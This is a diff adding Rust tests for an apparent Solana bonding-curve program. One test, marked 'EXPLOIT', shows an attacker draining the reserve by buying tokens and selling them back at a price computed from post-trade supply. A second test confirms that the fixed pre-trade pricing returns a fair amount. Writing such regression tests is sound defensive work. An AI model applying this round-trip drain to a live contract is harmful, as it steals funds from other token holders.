@@ -0,0 +1,46 @@
+#[tokio::test]
+async fn test_buy_then_sell_exploit() {
+    println!("\n=== EXPLOIT: Sell Priced From Post-Trade Supply ===\n");
+
+    let mallory = Keypair::new();
+    let curve = create_curve(100 * LAMPORTS_PER_SOL, 1_000_000).await;
+    let balance_before = get_balance(&mallory.pubkey()).await;
+
+    println!("1. Mallory buys 1,000,000 tokens");
+    buy(&curve, &mallory, 1_000_000).await.unwrap();
+    assert_eq!(get_curve(&curve).await.reserve, 200 * LAMPORTS_PER_SOL);
+    println!("   Paid 100 SOL at 0.0001 SOL each");
+
+    println!("\n2. She sells the same 1,000,000 tokens");
+    // Vulnerable: priced at 200 SOL / 1,000,000 remaining tokens
+    sell(&curve, &mallory, 1_000_000).await.unwrap();
+
+    assert_eq!(get_curve(&curve).await.reserve, 0);
+    let profit = get_balance(&mallory.pubkey()).await - balance_before;
+    assert!(profit >= 99 * LAMPORTS_PER_SOL);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Round trip paid 200 SOL for 100; reserve emptied");
+}
+
+#[tokio::test]
+async fn test_pre_trade_pricing() {
+    println!("\n=== SECURITY: Pre-Trade Pricing For Buy and Sell ===\n");
+
+    let mallory = Keypair::new();
+    let curve = create_curve(100 * LAMPORTS_PER_SOL, 1_000_000).await;
+
+    println!("1. Mallory buys 1,000,000 tokens, then sells them");
+    buy(&curve, &mallory, 1_000_000).await.unwrap();
+    let before = get_balance(&mallory.pubkey()).await;
+    sell(&curve, &mallory, 1_000_000).await.unwrap();
+    let received = get_balance(&mallory.pubkey()).await - before;
+
+    assert_eq!(received, 99 * LAMPORTS_PER_SOL);
+    println!("   ✓ Received 99 SOL: fair price minus the 1% tax");
+
+    let state = get_curve(&curve).await;
+    assert_eq!(state.reserve, 101 * LAMPORTS_PER_SOL);
+    assert_eq!(state.supply, 1_000_000);
+    println!("   ✓ Reserve grew to 101 SOL for the other holders");
+}